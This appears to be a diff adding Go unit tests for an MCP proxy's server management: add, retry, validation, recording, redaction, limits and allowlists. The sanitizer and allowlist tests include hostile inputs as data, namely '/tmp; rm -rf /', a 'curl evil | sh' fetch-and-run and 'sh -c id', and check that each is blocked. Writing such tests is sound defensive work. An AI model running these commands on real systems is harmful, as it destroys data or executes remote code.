+		fake := client.NewFakeClient(serverConfig.Name)
+		fake.SetInitializeError(fmt.Errorf("handshake rejected"))
+		return fake
+	})
+
+	filename := filepath.Join(t.TempDir(), "session.jsonl")
+	if err := w.EnableRecording(filename); err != nil {
+		t.Fatalf("enable recording: %v", err)
+	}
+	callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server"})
+	w.DisableRecording()
+
+	data, err := os.ReadFile(filename)
+	if err != nil {
+		t.Fatalf("read recording: %v", err)
+	}
+	var directions []string
+	var handshakeErr HandshakeError
+	for _, line := range strings.Split(string(data), "\n") {
+		var recorded RecordedMessage
+		if json.Unmarshal([]byte(line), &recorded) != nil || recorded.MessageType != "initialize" {
+			continue
+		}
+		directions = append(directions, recorded.Direction)
+		if recorded.Direction == "response" {
+			json.Unmarshal(recorded.Message, &handshakeErr)
+		}
+	}
+	if strings.Join(directions, ",") != "request,response" {
+		t.Errorf("expected the handshake request and response recorded, got %v", directions)
+	}
+	if !strings.Contains(handshakeErr.Error, "handshake rejected") {
+		t.Errorf("expected the failure recorded as the response, got %+v", handshakeErr)
+	}
+}
+
+func TestServerAddConnectFailure(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		fake := client.NewFakeClient(serverConfig.Name)
+		fake.SetInitializeError(fmt.Errorf("handshake rejected"))
+		return fake
+	})
+
+	result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "bad", "command": "fake-server"})
+	if !result.IsError || !strings.Contains(resultText(result), "handshake rejected") {
+		t.Errorf("expected initialize failure, got %q", resultText(result))
+	}
+	if _, exists := w.dynamicServers["bad"]; exists {
+		t.Error("failed server should not be registered")
+	}
+}
+
+func TestServerAddRetriesConnect(t *testing.T) {
+	for _, tc := range []struct {
+		name         string
+		maxRetries   *int
+		wantAttempts int
+		wantError    bool
+	}{
+		{name: "default retries", wantAttempts: 2},
+		{name: "fail fast", maxRetries: new(int), wantAttempts: 1, wantError: true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			w := NewDynamicWrapper(&config.ProxyConfig{Proxy: config.ProxySettings{MaxRetries: tc.maxRetries}})
+			attempts := 0
+			w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+				attempts++
+				fake := client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+				if attempts == 1 {
+					fake.SetConnectError(fmt.Errorf("not ready yet"))
+				}
+				return fake
+			})
+
+			result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "flaky", "command": "fake-server"})
+			if result.IsError != tc.wantError {
+				t.Errorf("expected error %v, got %q", tc.wantError, resultText(result))
+			}
+			if attempts != tc.wantAttempts {
+				t.Errorf("expected %d connect attempts, got %d", tc.wantAttempts, attempts)
+			}
+		})
+	}
+}
+
+func TestServerAddInvalidName(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	created := 0
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		created++
+		return client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+	})
+	w.dynamicServers["files"] = &DynamicServerInfo{
+		Name:   "files",
+		Config: config.ServerConfig{Name: "files", Prefix: "fs"},
+	}
+
+	for _, name := range []string{"", "   ", "my server", "fs.v2", "a/b", "fs"} {
+		result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": name, "command": "fake-server"})
+		if !result.IsError || !strings.Contains(resultText(result), "invalid server name") {
+			t.Errorf("%q: expected invalid server name, got %q", name, resultText(result))
+		}
+	}
+	if created != 0 {
+		t.Errorf("expected no connection attempt for invalid names, got %d", created)
+	}
+
+	// Surrounding whitespace is trimmed
+	if result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": " git-2 ", "command": "fake-server"}); result.IsError {
+		t.Fatalf("server_add failed: %s", resultText(result))
+	}
+	if _, exists := w.dynamicServers["git-2"]; !exists {
+		t.Error("expected the server to be added as git-2")
+	}
+	if w.baseServer.GetTool("git-2_read") == nil {
+		t.Error("expected the tool to be exposed as git-2_read")
+	}
+}
+
+func TestConcurrentToolCalls(t *testing.T) {
+	fake := client.NewFakeClient("fake")
+	w := newTestWrapper(t, "fake", fake)
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fake_read",
+		ServerName:   "fake",
+	})
+
+	var wg sync.WaitGroup
+	for i := 0; i < 20; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			handler(context.Background(), mcp.CallToolRequest{})
+		}()
+	}
+	wg.Wait()
+
+	if calls := len(fake.Calls()); calls != 20 {
+		t.Errorf("expected 20 backend calls, got %d", calls)
+	}
+}
+
+func TestServerListIsSorted(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	for _, name := range []string{"zeta", "alpha", "mid", "beta"} {
+		w.dynamicServers[name] = &DynamicServerInfo{
+			Name:        name,
+			Tools:       []string{name + "_write", name + "_read", name + "_list"},
+			IsConnected: true,
+		}
+	}
+
+	first := resultText(callTool(t, w.handleServerList, nil))
+	for i := 0; i < 10; i++ {
+		if text := resultText(callTool(t, w.handleServerList, nil)); text != first {
+			t.Fatalf("server_list output changed between invocations:\n%s\n---\n%s", first, text)
+		}
+	}
+
+	positions := []int{
+		strings.Index(first, "- alpha"),
+		strings.Index(first, "- beta"),
+		strings.Index(first, "- mid"),
+		strings.Index(first, "- zeta"),
+	}
+	for i := 1; i < len(positions); i++ {
+		if positions[i-1] < 0 || positions[i-1] > positions[i] {
+			t.Fatalf("expected servers sorted by name, got:\n%s", first)
+		}
+	}
+	if strings.Index(first, "alpha_list") > strings.Index(first, "alpha_read") {
+		t.Errorf("expected tools sorted by name, got:\n%s", first)
+	}
+}
+
+func TestProxyDegradedListsUnavailableTools(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	w.dynamicServers["fs"] = &DynamicServerInfo{
+		Name:        "fs",
+		Tools:       []string{"fs_read", "fs_write"},
+		IsConnected: true,
+	}
+	w.dynamicServers["db"] = &DynamicServerInfo{
+		Name:         "db",
+		Tools:        []string{"db_query", "db_exec"},
+		ErrorMessage: "broken pipe",
+	}
+
+	text := resultText(callTool(t, w.handleProxyDegraded, nil))
+	if !strings.Contains(text, "Unavailable tools (2") || !strings.Contains(text, "db (broken pipe)") {
+		t.Errorf("expected db tools listed as unavailable, got:\n%s", text)
+	}
+	if !strings.Contains(text, "db_exec") || !strings.Contains(text, "db_query") {
+		t.Errorf("expected each db tool listed, got:\n%s", text)
+	}
+	if strings.Contains(text, "fs_read") {
+		t.Errorf("expected connected server's tools to be omitted, got:\n%s", text)
+	}
+
+	if list := resultText(callTool(t, w.handleServerList, nil)); !strings.Contains(list, "Unavailable tools (2") {
+		t.Errorf("expected server_list to annotate unavailable tools, got:\n%s", list)
+	}
+
+	w.dynamicServers["db"].IsConnected = true
+	if text := resultText(callTool(t, w.handleProxyDegraded, nil)); !strings.Contains(text, "no tools are unavailable") {
+		t.Errorf("expected no degraded tools once reconnected, got:\n%s", text)
+	}
+	if list := resultText(callTool(t, w.handleServerList, nil)); strings.Contains(list, "Unavailable tools") {
+		t.Errorf("expected no annotation when all servers are connected, got:\n%s", list)
+	}
+}
+
+func TestServerToolsListsRegistryTools(t *testing.T) {
+	fake := client.NewFakeClient("fs")
+	w := newTestWrapper(t, "fs", fake)
+	w.proxyServer.registry.RegisterTool(discovery.RemoteTool{
+		OriginalName: "read",
+		PrefixedName: "fs_read",
+		Description:  "Read a file",
+		InputSchema:  json.RawMessage(`{"type":"object","properties":{"path":{"type":"string"},"limit":{"type":"integer"}},"required":["path"]}`),
+		ServerName:   "fs",
+		ServerPrefix: "fs",
+	}, fake)
+	w.proxyServer.registry.RegisterTool(discovery.RemoteTool{
+		OriginalName: "query",
+		PrefixedName: "db_query",
+		ServerName:   "db",
+		ServerPrefix: "db",
+	}, fake)
+
+	text := resultText(callTool(t, w.handleServerTools, map[string]interface{}{"name": "fs"}))
+	if !strings.Contains(text, "fs_read") || !strings.Contains(text, "Read a file") {
+		t.Errorf("expected fs_read with description, got:\n%s", text)
+	}
+	if !strings.Contains(text, "limit (integer), path (string, required)") {
+		t.Errorf("expected argument summary, got:\n%s", text)
+	}
+	if strings.Contains(text, "db_query") || strings.Contains(text, "Schema:") {
+		t.Errorf("expected only fs tools without full schemas, got:\n%s", text)
+	}
+
+	verbose := resultText(callTool(t, w.handleServerTools, map[string]interface{}{"name": "fs", "verbose": true}))
+	if !strings.Contains(verbose, `"required": [`) {
+		t.Errorf("expected full schema in verbose output, got:\n%s", verbose)
+	}
+
+	// Disconnected servers report their last known tools
+	w.dynamicServers["fs"].IsConnected = false
+	text = resultText(callTool(t, w.handleServerTools, map[string]interface{}{"name": "fs"}))
+	if !strings.Contains(text, "last known") || !strings.Contains(text, "fs_read") {
+		t.Errorf("expected last known tools for disconnected server, got:\n%s", text)
+	}
+
+	if result := callTool(t, w.handleServerTools, map[string]interface{}{"name": "missing"}); !result.IsError {
+		t.Error("expected error for unknown server")
+	}
+}
+
+func TestServerAddDryRun(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+
+	var created []*client.FakeClient
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		fake := client.NewFakeClient(serverConfig.Name,
+			client.ToolInfo{Name: "write", Description: "Write a file"},
+			client.ToolInfo{Name: "read", InputSchema: json.RawMessage(`{"type":"object","properties":{"path":{"type":"string"}}}`)},
+		)
+		created = append(created, fake)
+		return fake
+	})
+
+	result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server", "dry_run": true})
+	if result.IsError {
+		t.Fatalf("dry run failed: %s", resultText(result))
+	}
+	text := resultText(result)
+	if !strings.Contains(text, "fs_read") || !strings.Contains(text, "fs_write") || !strings.Contains(text, "Write a file") {
+		t.Errorf("expected tool preview, got:\n%s", text)
+	}
+	if strings.Index(text, "fs_read") > strings.Index(text, "fs_write") {
+		t.Errorf("expected tools sorted by name, got:\n%s", text)
+	}
+
+	if _, exists := w.dynamicServers["fs"]; exists {
+		t.Error("dry run must not store the server")
+	}
+	if len(w.proxyServer.registry.GetAllTools()) != 0 || w.baseServer.GetTool("fs_read") != nil {
+		t.Error("dry run must not register tools")
+	}
+	if len(created) != 1 || created[0].IsConnected() {
+		t.Error("expected the temporary client to be closed")
+	}
+
+	// Failures close the client too
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		fake := client.NewFakeClient(serverConfig.Name)
+		fake.SetListToolsError(fmt.Errorf("list failed"))
+		created = append(created, fake)
+		return fake
+	})
+	result = callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server", "dry_run": true})
+	if !result.IsError || !strings.Contains(resultText(result), "list failed") {
+		t.Errorf("expected list error, got %q", resultText(result))
+	}
+	if created[1].IsConnected() {
+		t.Error("expected the temporary client to be closed after a failure")
+	}
+}
+
+func TestSanitizerBlocksAndWarns(t *testing.T) {
+	fake := client.NewFakeClient("shell")
+	w := newTestWrapper(t, "shell", fake)
+	w.dynamicServers["shell"].Config.Sanitizer = []config.SanitizerRule{
+		{Name: "shell-metachars", Pattern: "[;&|`]", Action: config.SanitizerBlock},
+		{Pattern: "sudo", Action: config.SanitizerWarn},
+	}
+
+	filename := filepath.Join(t.TempDir(), "session.jsonl")
+	if err := w.EnableRecording(filename); err != nil {
+		t.Fatalf("enable recording: %v", err)
+	}
+
+	handler := w.createDynamicProxyHandler(discovery.RemoteTool{
+		OriginalName: "run",
+		PrefixedName: "shell_run",
+		ServerName:   "shell",
+	})
+
+	result := callTool(t, handler, map[string]interface{}{
+		"options": map[string]interface{}{"args": []interface{}{"ls", "/tmp; rm -rf /"}},
+	})
+	if !result.IsError || !strings.Contains(resultText(result), "argument 'options.args[1]' matches sanitizer rule 'shell-metachars'") {
+		t.Errorf("expected blocked call, got %q", resultText(result))
+	}
+	if len(fake.Calls()) != 0 {
+		t.Fatal("blocked call must not reach the backend")
+	}
+
+	// Warn rules only log; the call is forwarded
+	result = callTool(t, handler, map[string]interface{}{"command": "sudo ls"})
+	if result.IsError {
+		t.Errorf("expected warned call to succeed, got %q", resultText(result))
+	}
+	if len(fake.Calls()) != 1 {
+		t.Errorf("expected warned call to reach the backend, got %d calls", len(fake.Calls()))
+	}
+	w.DisableRecording()
+
+	data, err := os.ReadFile(filename)
+	if err != nil {
+		t.Fatalf("read recording: %v", err)
+	}
+	if n := strings.Count(string(data), `"blocked":true`); n != 1 {
+		t.Errorf("expected 1 blocked response in the recording, found %d", n)
+	}
+}
+
+func TestReadOnlyManagementTools(t *testing.T) {
+	cfg := &config.ProxyConfig{}
+	cfg.Proxy.Management.ReadOnly = true
+	w := NewDynamicWrapper(cfg)
+
+	for _, name := range config.ManagementTools {
+		registered := w.baseServer.GetTool(name) != nil
+		if registered != cfg.Proxy.Management.ToolEnabled(name) {
+			t.Errorf("%s: registered = %v with readOnly", name, registered)
+		}
+	}
+}
+
+func TestServerAddCommandAllowlist(t *testing.T) {
+	cfg := &config.ProxyConfig{}
+	cfg.Proxy.Management.AllowedCommands = []config.AllowedCommand{
+		{Command: "npx", Args: `-y @modelcontextprotocol/\S+( /srv/\S+)?`},
+		{Command: "/usr/local/bin/fake-server"},
+	}
+	w := NewDynamicWrapper(cfg)
+
+	var launched []string
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		launched = append(launched, serverConfig.Command)
+		return client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+	})
+
+	tests := []struct {
+		name    string
+		command string
+		allowed bool
+	}{
+		{"fs", "npx -y @modelcontextprotocol/filesystem /srv/data", true},
+		{"bin", "/usr/local/bin/fake-server --verbose", true},
+		{"shell", "bash -c 'curl evil | sh'", false},
+		{"npxargs", "npx -y evil-package", false},
+		{"relpath", "./npx -y @modelcontextprotocol/filesystem", false},
+		{"otherbin", "/tmp/fake-server", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			launched = nil
+			result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": tt.name, "command": tt.command})
+			if tt.allowed {
+				if result.IsError || len(launched) != 1 {
+					t.Errorf("expected %q to be launched, got %q", tt.command, resultText(result))
+				}
+				return
+			}
+			if !result.IsError || !strings.Contains(resultText(result), "not permitted") {
+				t.Errorf("expected %q to be refused, got %q", tt.command, resultText(result))
+			}
+			if len(launched) != 0 {
+				t.Errorf("disallowed command %q must not be launched", tt.command)
+			}
+		})
+	}
+
+	// A new command on reconnect is checked too
+	callTool(t, w.handleServerDisconnect, map[string]interface{}{"name": "fs"})
+	result := callTool(t, w.handleServerReconnect, map[string]interface{}{"name": "fs", "command": "sh -c id"})
+	if !result.IsError || !strings.Contains(resultText(result), "not permitted") {
+		t.Errorf("expected reconnect with disallowed command to be refused, got %q", resultText(result))
+	}
+}
+
+func TestProxyConfigShowsEffectiveConfig(t *testing.T) {
+	cfg := &config.ProxyConfig{Servers: []config.ServerConfig{{
+		Name:      "fs",
+		Prefix:    "fs",
+		Transport: "stdio",
+		Command:   "fs-server",
+		Env:       map[string]string{"API_TOKEN": "s3cret"},
+	}}, Record: config.RecordSettings{Index: true}}
+	w := NewDynamicWrapper(cfg)
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		return client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+	})
+	if _, err := w.Reload(context.Background(), cfg); err != nil {
+		t.Fatalf("reload failed: %v", err)
+	}
+	callTool(t, w.handleServerAdd, map[string]interface{}{"name": "extra", "command": "extra-server --verbose"})
+
+	text := resultText(callTool(t, w.handleProxyConfig, nil))
+	if strings.Contains(text, "s3cret") {
+		t.Fatalf("expected secrets to be redacted, got:\n%s", text)
+	}
+	var effective struct {
+		Servers []struct {
+			Name    string            `json:"name"`
+			Command string            `json:"command"`
+			Args    []string          `json:"args"`
+			Env     map[string]string `json:"env"`
+		} `json:"servers"`
+		Proxy struct {
+			Name              string `json:"name"`
+			ConnectionTimeout string `json:"connectionTimeout"`
+		} `json:"proxy"`
+		Record struct {
+			Index bool `json:"index"`
+		} `json:"record"`
+	}
+	if err := json.Unmarshal([]byte(text), &effective); err != nil {
+		t.Fatalf("expected JSON with the config file's keys, got %q: %v", text, err)
+	}
+	if len(effective.Servers) != 2 || effective.Servers[0].Name != "fs" || effective.Servers[1].Name != "extra" {
+		t.Fatalf("expected the configured and the added server, got %+v", effective.Servers)
+	}
+	if effective.Servers[0].Env["API_TOKEN"] != config.RedactedValue {
+		t.Errorf("expected API_TOKEN to be redacted, got %q", effective.Servers[0].Env["API_TOKEN"])
+	}
+	if effective.Servers[1].Command != "extra-server" || len(effective.Servers[1].Args) != 1 {
+		t.Errorf("expected the added server's command, got %+v", effective.Servers[1])
+	}
+	if effective.Proxy.Name != config.DefaultProxyName || effective.Proxy.ConnectionTimeout != "10s" {
+		t.Errorf("expected proxy defaults to be filled in, got %+v", effective.Proxy)
+	}
+	if !effective.Record.Index {
+		t.Error("expected the record section to be included")
+	}
+
+	// The running config itself keeps the secret
+	if cfg.Servers[0].Env["API_TOKEN"] != "s3cret" {
+		t.Error("redaction must not modify the running config")
+	}
+}
+
+func TestServerDescriptionAndTags(t *testing.T) {
+	cfg := &config.ProxyConfig{Servers: []config.ServerConfig{{
+		Name:        "fs",
+		Description: "Read-only view of the shared drive",
+		Tags:        []string{"owner:platform", "readonly"},
+		Prefix:      "fs",
+		Transport:   "stdio",
+		Command:     "fs-server",
+	}}}
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		return client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+	})
+	if _, err := w.Reload(context.Background(), cfg); err != nil {
+		t.Fatalf("reload failed: %v", err)
+	}
+
+	for name, handler := range map[string]server.ToolHandlerFunc{"server_list": w.handleServerList, "server_status": w.handleServerStatus} {
+		text := resultText(callTool(t, handler, nil))
+		if !strings.Contains(text, "Description: Read-only view of the shared drive") || !strings.Contains(text, "Tags: owner:platform, readonly") {
+			t.Errorf("expected %s to show the description and tags, got:\n%s", name, text)
+		}
+	}
+
+	// A new command on reconnect keeps them
+	callTool(t, w.handleServerReconnect, map[string]interface{}{"name": "fs", "command": "fs-server --verbose"})
+	text := resultText(callTool(t, w.handleProxyConfig, nil))
+	if !strings.Contains(text, `"description": "Read-only view of the shared drive"`) || !strings.Contains(text, `"readonly"`) {
+		t.Errorf("expected proxy_config to show the description and tags, got:\n%s", text)
+	}
+}
+
+func TestServerAddMaxDynamicServers(t *testing.T) {
+	cfg := &config.ProxyConfig{Servers: []config.ServerConfig{{Name: "static", Prefix: "static", Transport: "stdio"}}}
+	cfg.Proxy.MaxDynamicServers = 2
+	w := NewDynamicWrapper(cfg)
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient {
+		return client.NewFakeClient(serverConfig.Name, client.ToolInfo{Name: "read"})
+	})
+	// Static servers don't count towards the limit
+	w.dynamicServers["static"] = &DynamicServerInfo{Name: "static", Config: cfg.Servers[0], IsConnected: true}
+
+	for _, name := range []string{"one", "two"} {
+		if result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": name, "command": "fake-server"}); result.IsError {
+			t.Fatalf("expected %s to be added, got %q", name, resultText(result))
+		}
+	}
+
+	result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "three", "command": "fake-server"})
+	if !result.IsError || !strings.Contains(resultText(result), "maxDynamicServers is 2") {
+		t.Errorf("expected the limit to be reported, got %q", resultText(result))
+	}
+	if _, exists := w.dynamicServers["three"]; exists {
+		t.Error("server over the limit must not be added")
+	}
+
+	// A dry run is not limited, and removing a server frees a slot
+	if result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "three", "command": "fake-server", "dry_run": true}); result.IsError {
+		t.Errorf("expected dry run to be allowed at the limit, got %q", resultText(result))
+	}
+	callTool(t, w.handleServerRemove, map[string]interface{}{"name": "one"})
+	if result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "three", "command": "fake-server"}); result.IsError {
+		t.Errorf("expected three to be added after a removal, got %q", resultText(result))
+	}
+}
+
+func TestProxyIdentity(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{
+		Proxy: config.ProxySettings{Name: "dev-proxy", Version: "2.3.4"},
+	})
+	text := resultText(callTool(t, w.handleProxyInfo, nil))
+	if !strings.Contains(text, "Name: dev-proxy") || !strings.Contains(text, "Version: 2.3.4") {
+		t.Errorf("expected configured identity in proxy_info, got:\n%s", text)
+	}
+
+	w = NewDynamicWrapper(&config.ProxyConfig{})
+	text = resultText(callTool(t, w.handleProxyInfo, nil))
+	if !strings.Contains(text, "Name: "+config.DefaultProxyName) || !strings.Contains(text, "Version: "+config.DefaultProxyVersion) {
+		t.Errorf("expected default identity in proxy_info, got:\n%s", text)
+	}
+}
+
+func TestServerStatusShowsProtocolVersion(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	fake := client.NewFakeClient("fs", client.ToolInfo{Name: "read"})
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient { return fake })
+
+	if result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server"}); result.IsError {
+		t.Fatalf("server_add failed: %s", resultText(result))
+	}
+	text := resultText(callTool(t, w.handleServerStatus, map[string]interface{}{"name": "fs"}))
+	if !strings.Contains(text, "Protocol: "+client.ProtocolVersion) {
+		t.Errorf("expected the protocol version in server_status, got:\n%s", text)
+	}
+}
+
+func TestServerStatusShowsCapabilities(t *testing.T) {
+	w := NewDynamicWrapper(&config.ProxyConfig{})
+	fake := client.NewFakeClient("fs", client.ToolInfo{Name: "read"})
+	w.SetClientFactory(func(serverConfig config.ServerConfig) client.MCPClient { return fake })
+
+	if result := callTool(t, w.handleServerAdd, map[string]interface{}{"name": "fs", "command": "fake-server"}); result.IsError {
+		t.Fatalf("server_add failed: %s", resultText(result))
+	}
+	text := resultText(callTool(t, w.handleServerStatus, map[string]interface{}{"name": "fs"}))
+	if !strings.Contains(text, "Server: fs fake") || !strings.Contains(text, "Capabilities: logging, tools (listChanged)") {
+		t.Errorf("expected the backend's identity and capabilities in server_status, got:\n%s", text)
+	}
+}
+
+func TestDescribeCapabilities(t *testing.T) {
+	tests := []struct {
+		name         string
+		capabilities map[string]interface{}
+		want         string
+	}{
+		{"none", nil, "none advertised"},
+		{"empty options", map[string]interface{}{"tools": map[string]interface{}{}}, "tools"},
+		{
+			name: "flags",
+			capabilities: map[string]interface{}{
+				"resources": map[string]interface{}{"subscribe": true, "listChanged": true},
+				"prompts":   map[string]interface{}{"listChanged": false},
+				"logging":   map[string]interface{}{},
+			},
+			want: "logging, prompts, resources (listChanged, subscribe)",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := describeCapabilities(tt.capabilities); got != tt.want {
+				t.Errorf("expected %q, got %q", tt.want, got)
+			}
+		})
+	}
+}